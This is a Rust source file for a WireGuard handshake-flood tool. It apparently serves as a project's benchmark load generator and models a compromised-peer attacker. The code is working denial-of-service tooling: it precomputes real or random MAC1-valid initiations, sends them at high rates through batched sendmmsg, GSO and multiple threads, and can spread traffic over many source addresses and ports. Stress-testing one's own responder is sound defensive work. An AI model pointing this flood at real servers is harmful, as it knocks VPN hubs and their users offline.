//! komnet-flood: sends WireGuard handshake initiations with a valid MAC1 at a WireGuard
//! responder as fast as one or more threads can, bounded in count and time. It is the attacker
//! of issue 14 — someone holding one compromised laptop (or spoke) knows the hub's public key
//! and can make initiations the hub must look at — and the load generator of `benches/flood.sh`.
//!
//! What makes it fast (a single `sendto` loop reached 135-170k/s on a 2-core VM):
//! - every datagram is computed before the clock starts (`--precompute` of them, cycled);
//! - `sendmmsg` sends `--batch` messages per system call;
//! - with `--gso N`, each message carries N initiations back to back and the kernel cuts them
//!   (UDP_SEGMENT), so one call moves batch × N datagrams;
//! - `--threads` senders, each with its own sockets.
//!
//! Sources: `--sources N` binds N sockets, the i-th to address `--source` + (i mod
//! `--addresses`) and port `--port` + i, so one run can come from one address or be spread over
//! the addresses and ports of a /24 (`--addresses` defaults to at most 254); the benchmark
//! routes that /24 to the generator's namespace as local (`ip route add local ...`).
//!
//! Initiations are real ones (`--peer-key`: the compromised peer's private key; each made by
//! boringtun with a fresh ephemeral key, so the responder does the Diffie-Hellman work for each
//! it admits) or random bodies with a valid MAC1 (`--random`: the responder spends a DH before
//! it can tell). It prints one JSON line: what was sent, in how long, at what rate.
//!
//! It owns no protocol logic beyond building initiations; it never reads what comes back.

mod sys;

use std::net::{IpAddr, SocketAddr};
use std::time::{Duration, Instant};

use anyhow::{bail, Context, Result};
use base64::engine::general_purpose::STANDARD as B64;
use base64::Engine as _;
use blake2::digest::{FixedOutput, KeyInit, Mac};
use blake2::{Blake2s256, Blake2sMac, Digest};
use boringtun::noise::{Tunn, TunnResult};
use boringtun::x25519::{PublicKey, StaticSecret};
use rand::RngCore;

const INIT_LEN: usize = 148;
/// The longest run allowed: the generator never floods without an end.
const MAX_DURATION: Duration = Duration::from_secs(600);

const USAGE: &str =
    "usage: komnet-flood --target ADDR:PORT --hub-key BASE64 (--peer-key BASE64 | --random)
        [--source ADDR] [--sources N] [--addresses A] [--port P] [--duration SECS] [--count N] [--rate PER_SEC]
        [--threads T] [--batch B] [--gso N] [--precompute N]
  --duration is required (at most 600 s); --count defaults to 100,000,000.";

#[derive(Debug)]
struct Args {
    target: SocketAddr,
    hub_key: [u8; 32],
    peer_key: Option<[u8; 32]>,
    source: Option<IpAddr>,
    sources: usize,
    addresses: usize,
    port: u16,
    duration: Duration,
    count: u64,
    rate: u64,
    threads: usize,
    batch: usize,
    gso: usize,
    precompute: usize,
}

fn key(text: &str, what: &str) -> Result<[u8; 32]> {
    let bytes = B64
        .decode(text.trim())
        .with_context(|| format!("{what}: not base64"))?;
    bytes
        .try_into()
        .map_err(|_| anyhow::anyhow!("{what}: not 32 bytes"))
}

fn parse_args() -> Result<Args> {
    let mut a = std::env::args().skip(1);
    let (mut target, mut hub_key, mut peer_key, mut random) = (None, None, None, false);
    let mut args = Args {
        target: SocketAddr::from(([0, 0, 0, 0], 0)),
        hub_key: [0; 32],
        peer_key: None,
        source: None,
        sources: 1,
        addresses: 0,
        port: 0,
        duration: Duration::ZERO,
        count: 100_000_000,
        rate: 0,
        threads: 1,
        batch: 64,
        gso: 1,
        precompute: 1024,
    };
    let mut duration = None;
    while let Some(flag) = a.next() {
        let mut value = |name: &str| {
            a.next()
                .with_context(|| format!("{name} needs a value\n{USAGE}"))
        };
        match flag.as_str() {
            "--target" => target = Some(value("--target")?.parse().context("--target: ADDR:PORT")?),
            "--hub-key" => hub_key = Some(key(&value("--hub-key")?, "--hub-key")?),
            "--peer-key" => peer_key = Some(key(&value("--peer-key")?, "--peer-key")?),
            "--random" => random = true,
            "--source" => {
                args.source = Some(value("--source")?.parse().context("--source: an address")?)
            }
            "--sources" => args.sources = value("--sources")?.parse().context("--sources")?,
            "--addresses" => {
                args.addresses = value("--addresses")?.parse().context("--addresses")?
            }
            "--port" => args.port = value("--port")?.parse().context("--port")?,
            "--duration" => {
                duration = Some(Duration::from_secs_f64(
                    value("--duration")?
                        .parse::<f64>()
                        .context("--duration: seconds")?,
                ))
            }
            "--count" => args.count = value("--count")?.parse().context("--count")?,
            "--rate" => args.rate = value("--rate")?.parse().context("--rate")?,
            "--threads" => args.threads = value("--threads")?.parse().context("--threads")?,
            "--batch" => args.batch = value("--batch")?.parse().context("--batch")?,
            "--gso" => args.gso = value("--gso")?.parse().context("--gso")?,
            "--precompute" => {
                args.precompute = value("--precompute")?.parse().context("--precompute")?
            }
            "-h" | "--help" => {
                println!("{USAGE}");
                std::process::exit(0);
            }
            other => bail!("unknown argument {other:?}\n{USAGE}"),
        }
    }
    args.target = target.with_context(|| format!("--target is required\n{USAGE}"))?;
    args.hub_key = hub_key.with_context(|| format!("--hub-key is required\n{USAGE}"))?;
    args.duration = duration.with_context(|| format!("--duration is required\n{USAGE}"))?;
    if args.duration.is_zero() || args.duration > MAX_DURATION {
        bail!(
            "--duration must be between 0 and {} seconds",
            MAX_DURATION.as_secs()
        );
    }
    match (peer_key, random) {
        (Some(k), false) => args.peer_key = Some(k),
        (None, true) => {}
        _ => bail!("give exactly one of --peer-key and --random\n{USAGE}"),
    }
    if !(1..=65_536).contains(&args.sources) {
        bail!("--sources must be 1..=65536");
    }
    if args.addresses == 0 {
        args.addresses = args.sources.min(254);
    }
    if !(1..=1024).contains(&args.batch) || !(1..=64).contains(&args.gso) {
        bail!("--batch must be 1..=1024 and --gso 1..=64");
    }
    if args.threads == 0 || args.threads > args.sources.max(1) && args.sources > 1 {
        bail!("--threads must be at least 1 and at most --sources");
    }
    if args.precompute == 0 {
        bail!("--precompute must be at least 1");
    }
    Ok(args)
}

/// Random initiation bodies with a valid MAC1 for `hub`: type 1, reserved zero, a MAC1 over the
/// first 116 bytes keyed with HASH("mac1----" || hub's public key), MAC2 zero.
fn random_initiations(hub: &[u8; 32], n: usize) -> Vec<[u8; INIT_LEN]> {
    let mut h = Blake2s256::new();
    Digest::update(&mut h, b"mac1----");
    Digest::update(&mut h, hub);
    let mac1_key: [u8; 32] = h.finalize().into();
    let mut rng = rand::thread_rng();
    (0..n)
        .map(|_| {
            let mut m = [0u8; INIT_LEN];
            rng.fill_bytes(&mut m[4..116]);
            m[0] = 1;
            let mut mac =
                <Blake2sMac<blake2::digest::consts::U16> as KeyInit>::new_from_slice(&mac1_key)
                    .expect("a 32-byte blake2s key");
            Mac::update(&mut mac, &m[..116]);
            let tag: [u8; 16] = mac.finalize_fixed().into();
            m[116..132].copy_from_slice(&tag);
            m
        })
        .collect()
}

/// Real initiations from the peer with private key `peer` to `hub`, each with a fresh
/// ephemeral key (boringtun's own handshake code, as a compromised client would run it).
fn real_initiations(hub: &[u8; 32], peer: &[u8; 32], n: usize) -> Result<Vec<[u8; INIT_LEN]>> {
    let mut tunn = Tunn::new(
        StaticSecret::from(*peer),
        PublicKey::from(*hub),
        None,
        None,
        rand::random::<u32>() >> 8,
        None,
    );
    let mut out = Vec::with_capacity(n);
    let mut buf = [0u8; 256];
    for _ in 0..n {
        match tunn.format_handshake_initiation(&mut buf, true) {
            TunnResult::WriteToNetwork(m) if m.len() == INIT_LEN => {
                let mut a = [0u8; INIT_LEN];
                a.copy_from_slice(m);
                out.push(a);
            }
            TunnResult::Err(e) => bail!("building an initiation: {e:?}"),
            _ => bail!("building an initiation: unexpected result"),
        }
    }
    Ok(out)
}

/// The `i`-th source address after `base` (IPv4: the host part counts up; IPv6: the low 64
/// bits, so all stay in one /64 unless the base is near its end).
fn nth_source(base: IpAddr, i: usize) -> IpAddr {
    match base {
        IpAddr::V4(a) => IpAddr::V4((u32::from(a).wrapping_add(i as u32)).into()),
        IpAddr::V6(a) => IpAddr::V6((u128::from(a).wrapping_add(i as u128)).into()),
    }
}

fn main() -> Result<()> {
    let args = parse_args()?;
    let initiations = match &args.peer_key {
        Some(k) => real_initiations(&args.hub_key, k, args.precompute)?,
        None => random_initiations(&args.hub_key, args.precompute),
    };
    // Sources: one socket per (address, port); ports count up from --port (0: the kernel's).
    let base = args.source.unwrap_or(match args.target {
        SocketAddr::V4(_) => IpAddr::from([0, 0, 0, 0]),
        SocketAddr::V6(_) => IpAddr::from([0u16; 8]),
    });
    let mut sockets = Vec::with_capacity(args.sources);
    for i in 0..args.sources {
        let addr = if args.source.is_some() {
            nth_source(base, i % args.addresses)
        } else {
            base
        };
        let port = if args.port == 0 {
            0
        } else {
            args.port.wrapping_add(i as u16)
        };
        let s = sys::udp_socket(SocketAddr::new(addr, port), args.gso > 1)
            .with_context(|| format!("binding source {addr}:{port}"))?;
        sockets.push(s);
    }
    let per_thread = sockets.len().div_ceil(args.threads);
    let deadline_after = args.duration;
    let count_each = args.count.div_ceil(args.threads as u64);
    let rate_each = args.rate.div_ceil(args.threads as u64);
    let start = Instant::now();
    let mut handles = Vec::new();
    let mut chunks: Vec<Vec<_>> = Vec::new();
    let mut it = sockets.into_iter();
    for _ in 0..args.threads {
        let chunk: Vec<_> = it.by_ref().take(per_thread).collect();
        if !chunk.is_empty() {
            chunks.push(chunk);
        }
    }
    for chunk in chunks {
        let init = initiations.clone();
        let (target, batch, gso) = (args.target, args.batch, args.gso);
        handles.push(std::thread::spawn(move || {
            sys::flood(
                &chunk,
                target,
                &init,
                batch,
                gso,
                sys::Bounds {
                    start,
                    duration: deadline_after,
                    count: count_each,
                    rate: rate_each,
                },
            )
        }));
    }
    let mut sent = 0u64;
    let mut errors = 0u64;
    let mut first_error = None;
    for h in handles {
        let r = h
            .join()
            .map_err(|_| anyhow::anyhow!("a sender thread panicked"))?;
        sent += r.sent;
        errors += r.errors;
        first_error = first_error.or(r.first_error);
    }
    let secs = start.elapsed().as_secs_f64();
    println!(
        "{{\"sent\":{sent},\"seconds\":{secs:.3},\"rate\":{:.0},\"errors\":{errors},\"sources\":{},\"threads\":{},\"batch\":{},\"gso\":{},\"mode\":\"{}\"{}}}",
        sent as f64 / secs,
        args.sources,
        args.threads,
        args.batch,
        args.gso,
        if args.peer_key.is_some() { "real" } else { "random" },
        first_error
            .map(|e| format!(",\"first_error\":\"{e}\""))
            .unwrap_or_default()
    );
    Ok(())
}
